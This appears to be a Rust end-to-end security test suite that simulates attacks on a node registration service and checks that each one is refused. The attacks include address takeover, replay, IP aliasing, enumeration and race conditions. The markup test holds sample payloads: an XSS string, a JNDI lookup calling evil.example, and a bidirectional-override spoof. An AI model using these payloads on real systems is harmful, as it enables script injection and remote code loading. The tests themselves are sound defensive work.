//! Security round 3, the node routes: each test sends what an attacker would — another
//! organization taking an address, a heartbeat turned into a removal, one host under
//! several spellings, markup in published fields, probing for what exists, a captured
//! registration after a removal, a revocation racing a first registration — and holds
//! the answer (SECURITY.md names each). They share one worker, each with organizations
//! and addresses of its own, but for the race, whose D1 is slowed down on purpose.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use gatehouse_core::crypto::rsa_keys::PrivateKey;
use gatehouse_e2e::accounts::verified_user;
use gatehouse_e2e::nodes::{
    fields, installer_body, node_count, now_ms, register, seed_org, signed, upload_new_key,
};
use gatehouse_e2e::{shared_app, spawn_app_with, TestApp, TestResponse};
use serde_json::{json, Value};

fn assert_refused(res: &TestResponse, status: u16, message: &str) {
    assert_eq!(res.status, status, "{}", res.body);
    assert_eq!(
        res.json(),
        json!({"success": false, "message": message}),
        "{}",
        res.body
    );
}

const INVALID: &str = "Invalid signature";
const INVALID_WITHOUT_ORG: &str =
    "Invalid signature (a node's first registration must also name its organization: id_org)";
const REPLAY: &str =
    "Replay detected: this signed request was already used or is older than the last one";

fn unregister_body(key: &PrivateKey, ip: &str, ts_ms: i64, org: &str) -> Value {
    let message = format!("gatehouse-node-unregister-v1\n{ip}\n{ts_ms}\n{org}");
    json!({"ip": ip, "timestamp": ts_ms, "id_org": org,
           "signature": STANDARD.encode(key.sign(message.as_bytes()))})
}

fn nodes_at(app: &TestApp, ip: &str) -> Vec<String> {
    app.d1_query(&format!(
        "SELECT org_id FROM nodes WHERE ip = '{ip}' ORDER BY org_id"
    ))
    .iter()
    .map(|r| r["org_id"].as_str().unwrap().to_owned())
    .collect()
}

#[test]
fn an_address_is_each_organizations_own() {
    let app = shared_app();
    let alice = seed_org(app, "org-alice", 2048);
    let mallory = seed_org(app, "org-mallory", 2048);
    let t = now_ms();
    // Mallory takes Alice's public address before Alice's node's first registration,
    // and the LAN address both use.
    for ip in ["203.0.113.50", "10.0.0.5"] {
        assert_eq!(
            register(app, &mallory, ip, t, Some("org-mallory")).status,
            200
        );
    }
    // Alice's node registers anyway, first and again (cold, then warm), in both forms.
    for ip in ["203.0.113.50", "10.0.0.5"] {
        assert_eq!(
            register(app, &alice, ip, t + 1, Some("org-alice")).status,
            200
        );
        assert_eq!(
            register(app, &alice, ip, t + 2, Some("org-alice")).status,
            200
        );
        assert_eq!(nodes_at(app, ip), ["org-alice", "org-mallory"]);
    }
    let secs = t / 1000 + 10;
    let res = app.post_json(
        "/register",
        &installer_body(&alice, "203.0.113.50", secs, "org-alice"),
    );
    assert_eq!(res.status, 200, "{}", res.body);
    // A node that does not name its organization is found by the key that signed it.
    assert_eq!(
        register(app, &alice, "10.0.0.5", t + 20_000, None).status,
        200
    );
    assert_eq!(
        register(app, &mallory, "10.0.0.5", t + 20_000, None).status,
        200
    );
    // Mallory unregistering "her" address takes nothing from Alice.
    let gone = app.post_json(
        "/unregister",
        &unregister_body(&mallory, "203.0.113.50", t + 30_000, "org-mallory"),
    );
    assert_eq!(gone.status, 200, "{}", gone.body);
    assert_eq!(nodes_at(app, "203.0.113.50"), ["org-alice"]);
    // Nor can she take over Alice's node by naming Alice's organization.
    assert_refused(
        &register(app, &mallory, "203.0.113.50", t + 40_000, Some("org-alice")),
        400,
        INVALID,
    );
    assert_eq!(
        register(app, &alice, "203.0.113.50", t + 50_000, None).status,
        200
    );
}

#[test]
fn a_registration_signature_never_unregisters() {
    let app = shared_app();
    let key = seed_org(app, "org-heartbeat", 2048);
    let secs = now_ms() / 1000;
    let first = app.post_json(
        "/register",
        &installer_body(&key, "203.0.113.51", secs, "org-heartbeat"),
    );
    assert_eq!(first.status, 200, "{}", first.body);
    // A later heartbeat, captured before it arrives, sent to /unregister instead: the
    // installer's message is a registration's, never a removal's.
    let heartbeat = installer_body(&key, "203.0.113.51", secs + 5, "org-heartbeat");
    assert_refused(&app.post_json("/unregister", &heartbeat), 400, INVALID);
    assert_eq!(nodes_at(app, "203.0.113.51"), ["org-heartbeat"]);
    // And a v1 registration is not an unregistration either.
    let v1 = signed(
        &key,
        &fields("203.0.113.51", now_ms() + 6_000, Some("org-heartbeat")),
    );
    assert_refused(&app.post_json("/unregister", &v1), 400, INVALID);
    // The heartbeat itself still registers.
    assert_eq!(app.post_json("/register", &heartbeat).status, 200);
}

#[test]
fn every_spelling_of_one_host_is_one_node() {
    let app = shared_app();
    let key = seed_org(app, "org-spellings", 2048);
    let t = now_ms();
    for (i, ip) in [
        "203.0.113.60",
        "::ffff:203.0.113.60",
        "::ffff:0:203.0.113.60",
        "::203.0.113.60",
        "64:ff9b::203.0.113.60",
        "64:ff9b::cb00:713c",
    ]
    .iter()
    .enumerate()
    {
        let res = register(app, &key, ip, t + i as i64, Some("org-spellings"));
        assert_eq!(res.status, 200, "{ip}: {}", res.body);
    }
    assert_eq!(nodes_at(app, "203.0.113.60"), ["org-spellings"]);
    let rows = app.d1_query("SELECT count(*) AS n FROM nodes WHERE org_id = 'org-spellings'");
    assert_eq!(rows[0]["n"], 1);
    for (ip, says) in [
        ("2002:cb00:713c::1", "Invalid ip: 6to4, Teredo"),
        (
            "2001:0:4136:e378:8000:63bf:3fff:fdd2",
            "Invalid ip: 6to4, Teredo",
        ),
        ("240.0.0.1", "Invalid ip: unspecified"),
        ("::ffff:240.0.0.1", "Invalid ip: unspecified"),
        ("::7f00:1", "Invalid ip: unspecified"),
        ("64:ff9b::127.0.0.1", "Invalid ip: unspecified"),
    ] {
        let res = register(app, &key, ip, t + 100, Some("org-spellings"));
        assert_eq!(res.status, 400, "{ip}: {}", res.body);
        let message = res.json()["message"].as_str().unwrap().to_owned();
        assert!(message.starts_with(says), "{ip}: {message}");
    }
}

#[test]
fn published_fields_hold_no_markup_lookups_or_direction_changes() {
    let app = shared_app();
    let key = seed_org(app, "org-markup", 2048);
    let t = now_ms();
    for (field, value) in [
        ("region", "<img src=x onerror=alert(1)>"),
        ("version", "${jndi:ldap://evil.example/a}"),
        ("region", "eu\u{202e}1-lartnec"),
        ("version", "1.0 beta"),
    ] {
        let mut f = fields("203.0.113.61", t, Some("org-markup"));
        match field {
            "region" => f.region = value.into(),
            _ => f.version = value.into(),
        }
        let res = app.post_json("/register", &signed(&key, &f));
        assert_eq!(res.status, 400, "{value}: {}", res.body);
        let message = res.json()["message"].as_str().unwrap().to_owned();
        assert!(message.starts_with(&format!("Invalid {field}: 1 to 64 letters, digits")));
    }
    assert!(nodes_at(app, "203.0.113.61").is_empty());
    // What the real installer and client send passes and is published as sent.
    let secs = t / 1000;
    let res = app.post_json(
        "/register",
        &installer_body(&key, "203.0.113.61", secs, "org-markup"),
    );
    assert_eq!(res.status, 200, "{}", res.body);
    let stored = app.d1_query("SELECT region, version FROM nodes WHERE ip = '203.0.113.61'");
    assert_eq!(stored[0]["region"], "eu-central-1");
    assert_eq!(stored[0]["version"], "0.0.28");
}

#[test]
fn nothing_is_learnt_before_a_signature_verifies() {
    let app = shared_app();
    let key = seed_org(app, "org-probed", 2048);
    seed_org(app, "org-probed-banned", 2048);
    app.d1_query("UPDATE organizations SET banned = 1 WHERE id = 'org-probed-banned'");
    let stranger = PrivateKey::generate(2048).unwrap();
    let t = now_ms();
    assert_eq!(
        register(app, &key, "203.0.113.62", t, Some("org-probed")).status,
        200
    );

    // /register by a stranger: an unknown organization, a real one, a banned one, an
    // address registered in a real one — the same answer, byte for byte.
    let answers: Vec<(u16, String)> = [
        ("203.0.113.63", "org-nobody"),
        ("203.0.113.63", "org-probed"),
        ("203.0.113.63", "org-probed-banned"),
        ("203.0.113.62", "org-probed"),
        ("203.0.113.62", "org-probed-banned"),
    ]
    .iter()
    .enumerate()
    .map(|(i, (ip, org))| {
        let res = register(app, &stranger, ip, t + 1 + i as i64, Some(org));
        (res.status, res.body)
    })
    .collect();
    for answer in &answers {
        assert_eq!(answer, &answers[0]);
    }
    assert_refused(
        &register(app, &stranger, "203.0.113.63", t + 10, Some("org-probed")),
        400,
        INVALID,
    );
    // Without an organization: a registered and an unregistered address alike.
    let registered = register(app, &stranger, "203.0.113.62", t + 11, None);
    let unknown = register(app, &stranger, "203.0.113.63", t + 12, None);
    assert_refused(&registered, 400, INVALID_WITHOUT_ORG);
    assert_eq!(
        (registered.status, registered.body),
        (unknown.status, unknown.body)
    );

    // /unregister with a bad signature: a registered address and an unknown one alike.
    let registered = app.post_json(
        "/unregister",
        &unregister_body(&stranger, "203.0.113.62", t + 13, "org-probed"),
    );
    let unknown = app.post_json(
        "/unregister",
        &unregister_body(&stranger, "203.0.113.63", t + 14, "org-probed"),
    );
    assert_refused(&registered, 400, INVALID);
    assert_eq!(
        (registered.status, registered.body),
        (unknown.status, unknown.body)
    );
    // Once the signature verifies, the organization's own node may be unknown: 404.
    let own_unknown = app.post_json(
        "/unregister",
        &unregister_body(&key, "203.0.113.63", t + 15, "org-probed"),
    );
    assert_refused(&own_unknown, 404, "Node not found");
}

#[test]
fn a_removed_node_cannot_be_brought_back_by_a_captured_registration() {
    let app = shared_app();
    let (token, org, _) = verified_user(app, "owner@nodes.example");
    let (key, _) = upload_new_key(app, &token, &org);
    // A tombstone from long ago: past its retention, the next removal sweeps it.
    app.d1_execute(
        "INSERT INTO node_tombstones (org_id, ip, last_signed_at_ms, removed_at_ms) \
         VALUES ('org-long-gone', '192.0.2.200', 1, 1)",
    )
    .expect("old tombstone");
    let t = now_ms();
    for (ip, removal) in [("203.0.113.64", "unregister"), ("203.0.113.65", "delete")] {
        // Captured on the way, never delivered: a registration signed at t.
        let captured = signed(&key, &fields(ip, t, Some(&org)));
        assert_eq!(register(app, &key, ip, t + 1_000, Some(&org)).status, 200);
        let removed = match removal {
            "unregister" => {
                app.post_json("/unregister", &unregister_body(&key, ip, t + 2_000, &org))
            }
            _ => app.request_as(
                &token,
                "DELETE",
                &format!("/organization/{org}/node/{ip}"),
                None,
            ),
        };
        assert_eq!(removed.status, 200, "{removal}: {}", removed.body);
        // Inside its window, its nonce unused: D1's tombstone refuses it.
        assert_refused(&app.post_json("/register", &captured), 400, REPLAY);
        assert!(nodes_at(app, ip).is_empty(), "{ip} stays removed");
        // The node itself comes back with a registration signed after the removal (a
        // manager's removal is at the time it was made: an unwritten heartbeat of the
        // node, newer than its row, must not bring it back either).
        let after = (t + 3_000).max(now_ms() + 1_000);
        assert_eq!(register(app, &key, ip, after, Some(&org)).status, 200);
    }
    // Tombstones are kept only while a request signed before them could be fresh.
    let kept = app.d1_query(
        "SELECT ip FROM node_tombstones \
         WHERE ip IN ('192.0.2.200', '203.0.113.64', '203.0.113.65') ORDER BY ip",
    );
    assert_eq!(
        kept,
        vec![json!({"ip": "203.0.113.64"}), json!({"ip": "203.0.113.65"})]
    );
}

#[test]
fn a_revocation_or_ban_between_the_cold_read_and_write_is_not_missed() {
    // Each D1 round trip takes 25 s here: the read lands at ~25 s, the revocation and
    // the ban are written at 26 s (straight into the SQLite file, which must be done
    // before the worker writes: the requests are sent from threads of their own, so the
    // harness does not hold them back), the write lands at ~50 s. A 500 prints the
    // worker's log, to tell such a collision from a fault.
    let app = spawn_app_with(&[("D1_LATENCY_MS", "25000")]);
    let revoked = seed_org(&app, "org-revoked", 2048);
    let banned = seed_org(&app, "org-banned", 2048);
    let t = now_ms();
    let send = |key: &PrivateKey, ip: &str, org: &str| {
        let url = app.url("/register");
        let payload = signed(key, &fields(ip, t, Some(org))).to_string();
        std::thread::spawn(move || {
            match ureq::post(&url)
                .set("content-type", "application/json")
                .send_string(&payload)
            {
                Ok(r) | Err(ureq::Error::Status(_, r)) => (r.status(), r.into_string().unwrap()),
                Err(e) => panic!("no answer: {e}"),
            }
        })
    };
    let first = send(&revoked, "203.0.113.66", "org-revoked");
    let second = send(&banned, "203.0.113.67", "org-banned");
    std::thread::sleep(std::time::Duration::from_secs(26));
    app.d1_execute(
        "UPDATE org_keys SET revoked_at_ms = 1 WHERE org_id = 'org-revoked'; \
         UPDATE organizations SET banned = 1 WHERE id = 'org-banned'",
    )
    .expect("revoke and ban");
    let answer = |(status, text): (u16, String)| {
        if status == 500 {
            eprintln!("worker log:\n{}", app.log());
        }
        (status, serde_json::from_str::<Value>(&text).expect("JSON"))
    };
    assert_eq!(
        answer(first.join().unwrap()),
        (
            400,
            json!({"success": false, "message": "Invalid signature"})
        )
    );
    assert_eq!(
        answer(second.join().unwrap()),
        (
            400,
            json!({"success": false, "message": "Unknown or banned organization"})
        )
    );
    assert_eq!(app.d1_query("SELECT count(*) AS n FROM nodes")[0]["n"], 0);
}

#[test]
fn an_organization_holds_at_most_nodes_max_nodes_and_its_own_still_register() {
    // D1_BASELINE: every registration takes the cold path's insert-or-update, the one
    // write that can add a node.
    let app = spawn_app_with(&[("NODES_MAX", "3"), ("D1_BASELINE", "on")]);
    let key = seed_org(&app, "org-capped", 2048);
    let t = now_ms();
    for (i, ip) in ["203.0.113.80", "203.0.113.81", "203.0.113.82"]
        .iter()
        .enumerate()
    {
        let res = register(&app, &key, ip, t + i as i64, Some("org-capped"));
        assert_eq!(res.status, 200, "{ip}: {}", res.body);
    }
    assert_eq!(node_count(&app, "org-capped"), 3);
    // A fourth address, signed by the organization's key: refused, nothing stored.
    let refused = register(&app, &key, "10.0.0.83", t + 10, Some("org-capped"));
    assert_eq!(refused.status, 400, "{}", refused.body);
    let message = refused.json()["message"].as_str().unwrap().to_owned();
    assert!(message.contains("(NODES_MAX)"), "{message}");
    assert!(nodes_at(&app, "10.0.0.83").is_empty());
    assert_eq!(node_count(&app, "org-capped"), 3);
    // Its nodes still register, changed or not.
    for ip in ["203.0.113.80", "203.0.113.81"] {
        let again = register(&app, &key, ip, t + 20, Some("org-capped"));
        assert_eq!(again.status, 200, "{ip}: {}", again.body);
    }
    let mut changed = fields("203.0.113.82", t + 21, Some("org-capped"));
    changed.version = "9.9.9".into();
    assert_eq!(
        app.post_json("/register", &signed(&key, &changed)).status,
        200
    );
    // A removal makes room, and the count follows every insert and delete.
    let gone = app.post_json(
        "/unregister",
        &unregister_body(&key, "203.0.113.81", t + 30, "org-capped"),
    );
    assert_eq!(gone.status, 200, "{}", gone.body);
    assert_eq!(node_count(&app, "org-capped"), 2);
    let room = register(&app, &key, "10.0.0.83", t + 40, Some("org-capped"));
    assert_eq!(room.status, 200, "{}", room.body);
    assert_eq!(node_count(&app, "org-capped"), 3);
    // Another organization's limit is its own.
    let other = seed_org(&app, "org-other", 2048);
    let res = register(&app, &other, "10.0.0.83", t + 50, Some("org-other"));
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(node_count(&app, "org-other"), 1);

    // Eight first registrations sent at once to an organization with room for two
    // more: the count is decided in each write, so exactly two are stored.
    let barrier = std::sync::Barrier::new(8);
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let sends: Vec<_> = (0..8)
            .map(|i| {
                let (app, other, barrier) = (&app, &other, &barrier);
                scope.spawn(move || {
                    let body = signed(
                        other,
                        &fields(&format!("10.0.1.{i}"), t + 60, Some("org-other")),
                    );
                    barrier.wait();
                    app.post_json("/register", &body).status
                })
            })
            .collect();
        sends.into_iter().map(|s| s.join().unwrap()).collect()
    });
    assert_eq!(
        (
            statuses.iter().filter(|s| **s == 200).count(),
            statuses.iter().filter(|s| **s == 400).count()
        ),
        (2, 6),
        "{statuses:?}"
    );
    assert_eq!(node_count(&app, "org-other"), 3);
    let stored = app.d1_query("SELECT count(*) AS n FROM nodes WHERE org_id = 'org-other'");
    assert_eq!(stored[0]["n"], 3);
}
